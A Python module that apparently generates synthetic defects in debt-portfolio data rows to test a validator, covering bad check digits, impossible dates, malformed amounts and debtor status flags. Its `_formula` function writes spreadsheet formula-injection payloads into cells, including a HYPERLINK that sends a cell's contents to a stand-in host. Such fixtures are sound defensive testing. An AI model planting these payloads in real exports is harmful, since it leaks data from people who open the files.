"""How each kind of defect is made out of a clean row.

A function takes the clean row and gives the values to change: `typed` before the file's way of writing is
applied (minor units, dates, codes), `written` after it, as the characters that stand in the cell.
"""

from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta

import numpy as np

from marketplace.tapes.sample.check_digits import DNI_LETTERS
from marketplace.tapes.sample.country import Country, Layout

type Value = str | int | bool | date | None


@dataclass(frozen=True, slots=True)
class CleanRow:
    """What the defects need to know of the row they spoil. Amounts in minor units."""

    reference: str
    contract_date: date
    default_date: date
    principal: int
    interest: int
    costs: int
    payments: int
    balance: int
    national_id: str | None
    iban: str | None


@dataclass(frozen=True, slots=True)
class Edit:
    """A new value for one field."""

    field: str
    value: Value


@dataclass(frozen=True, slots=True)
class Spoilt:
    """The edits of one row, the field to blame, and what is wrong in a sentence."""

    field: str
    sentence: str
    typed: tuple[Edit, ...] = ()
    written: tuple[Edit, ...] = ()


@dataclass(frozen=True, slots=True)
class Bench:
    """What a defect is made with: the country's words, the file's way of writing, and chance."""

    country: Country
    layout: Layout
    fields: tuple[str, ...]
    rng: np.random.Generator

    def one_of[Choice](self, choices: tuple[Choice, ...]) -> Choice:
        """One of the choices."""
        return choices[int(self.rng.integers(len(choices)))]


def _wrong_id(row: CleanRow, bench: Bench) -> Spoilt:
    number = row.national_id or ""
    wrong = number[:-1] + _another(number[-1])
    sentence = f"The last sign of {wrong} is not the one its digits give."
    return Spoilt("national_id", sentence, typed=(Edit("national_id", wrong),))


def _wrong_iban(row: CleanRow, bench: Bench) -> Spoilt:
    number = row.iban or ""
    wrong = number[:-1] + _another(number[-1])
    return Spoilt("iban", f"The check digits of {wrong} do not belong to it.", typed=(Edit("iban", wrong),))


def _another(sign: str) -> str:
    if sign.isdigit():
        return str((int(sign) + 1) % 10)
    return DNI_LETTERS[(DNI_LETTERS.index(sign) + 1) % len(DNI_LETTERS)]


def _swapped_dates(row: CleanRow, bench: Bench) -> Spoilt:
    swapped = (Edit("contract_date", row.default_date), Edit("default_date", row.contract_date))
    sentence = f"The default of {row.contract_date} lies before the contract of {row.default_date}."
    return Spoilt("default_date", sentence, typed=swapped)


def _impossible_date(row: CleanRow, bench: Bench) -> Spoilt:
    year = str(row.default_date.year)
    written = bench.layout.date.replace("%d", "31").replace("%m", "02").replace("%Y", year)
    return Spoilt("default_date", f"{written} is no day of any calendar.", written=(Edit("default_date", written),))


def _future_date(row: CleanRow, bench: Bench) -> Spoilt:
    day = date(2091, int(bench.rng.integers(1, 13)), int(bench.rng.integers(1, 29)))
    edits = (Edit("default_date", day), Edit("termination_date", None))
    return Spoilt("default_date", f"The default of {day} has not happened yet.", typed=edits)


def _ambiguous_amount(row: CleanRow, bench: Bench) -> Spoilt:
    balance = row.balance + 100_000
    english = f"{balance // 100:,}.{balance % 100:02}"
    written = english if bench.layout.decimal == "," else english.translate(str.maketrans(",.", ".,"))
    return Spoilt(
        "balance",
        f"{written} is written in another way than the rest of the column and can be read in two ways.",
        typed=(Edit("principal", row.principal + 100_000), Edit("balance", balance)),
        written=(Edit("balance", written),),
    )


def _text_amount(row: CleanRow, bench: Bench) -> Spoilt:
    field = bench.one_of(("balance", "principal"))
    said = bench.one_of(bench.country.words.text_amounts)
    return Spoilt(field, f"“{said}” is not an amount.", written=(Edit(field, said),))


def _negative(row: CleanRow, bench: Bench) -> Spoilt:
    owed = row.principal + row.interest + row.costs
    payments = owed + int(bench.rng.integers(500, 20_000))
    edits = (Edit("payments", payments), Edit("balance", owed - payments))
    return Spoilt("balance", "More was paid than was owed: the balance is negative.", typed=edits)


def _paid(row: CleanRow, bench: Bench) -> Spoilt:
    owed = row.principal + row.interest + row.costs
    edits = (Edit("payments", owed), Edit("balance", 0), Edit("paid", bool(bench.rng.integers(2))))
    return Spoilt("balance", "Everything was paid: the balance is zero.", typed=edits)


def _wrong_sum(row: CleanRow, bench: Bench) -> Spoilt:
    balance = row.balance + int(bench.rng.integers(1_000, 50_000))
    owed = row.principal + row.interest + row.costs - row.payments
    sentence = f"The balance says {_amount(balance)}, its parts come to {_amount(owed)}."
    return Spoilt("balance", sentence, typed=(Edit("balance", balance),))


def _no_amount(row: CleanRow, bench: Bench) -> Spoilt:
    fields = ("principal", "interest", "costs", "payments", "balance")
    return Spoilt("balance", "No amount is given.", typed=tuple(Edit(field, None) for field in fields))


def _no_reference(row: CleanRow, bench: Bench) -> Spoilt:
    return Spoilt("reference", "The account has no reference.", typed=(Edit("reference", None),))


def _formula(row: CleanRow, bench: Bench) -> Spoilt:
    named = "debtor_name" if "debtor_name" in bench.fields else "debtor_last_name"
    field = bench.one_of(("street", named, "employer"))
    link = '=HYPERLINK("http://example.com/?a="&A1;"open")'
    cell = bench.one_of((link, "+SUM(A1:A9)", "-SUM(A1:A9)", "@SUM(A1:A9)"))
    return Spoilt(field, f"A spreadsheet would run the cell {cell}.", written=(Edit(field, cell),))


def _barred(row: CleanRow, bench: Bench) -> Spoilt:
    default = date(int(bench.rng.integers(1996, 2000)), int(bench.rng.integers(1, 13)), 15)
    known = {
        "contract_date": default - timedelta(days=int(bench.rng.integers(400, 900))),
        "due_date": default - timedelta(days=30),
        "default_date": default,
        "termination_date": default + timedelta(days=60),
        "interest_from": default,
    }
    blank = ("last_payment_date", "last_payment_amount", "acknowledged_on")
    edits = tuple(Edit(field, day) for field, day in known.items()) + tuple(Edit(field, None) for field in blank)
    money = (Edit("payments", 0), Edit("balance", row.principal + row.interest + row.costs))
    sentence = f"In default since {default}, with no payment, acknowledgement or claim since: barred everywhere."
    return Spoilt("default_date", sentence, typed=edits + money)


def _foreign_postcode(row: CleanRow, bench: Bench) -> Spoilt:
    wrong = bench.one_of(bench.country.words.wrong_postcodes)
    sentence = f"{wrong} is no postcode of {bench.country.code.upper()}."
    return Spoilt("postcode", sentence, typed=(Edit("postcode", wrong),))


def _status(field: str, sentence: str) -> Callable[[CleanRow, Bench], Spoilt]:
    return lambda row, bench: Spoilt(field, sentence, typed=(Edit(field, True),))


def _amount(minor: int) -> str:
    return f"{minor // 100}.{minor % 100:02}"


SPOILERS: dict[str, Callable[[CleanRow, Bench], Spoilt]] = {
    "id.checksum": _wrong_id,
    "iban.checksum": _wrong_iban,
    "dates.order": _swapped_dates,
    "date.impossible": _impossible_date,
    "date.future": _future_date,
    "amount.ambiguous": _ambiguous_amount,
    "amount.not_a_number": _text_amount,
    "amount.negative": _negative,
    "amount.zero": _paid,
    "amount.missing": _no_amount,
    "balance.sum": _wrong_sum,
    "reference.missing": _no_reference,
    "cell.formula": _formula,
    "postcode.country": _foreign_postcode,
    "limitation.barred": _barred,
    "status.insolvent": _status("insolvent", "The debtor is insolvent."),
    "status.deceased": _status("deceased", "The debtor has died."),
    "status.disputed": _status("disputed", "The debtor disputes the debt."),
    "status.live_plan": _status("live_plan", "The debtor keeps a payment plan."),
}
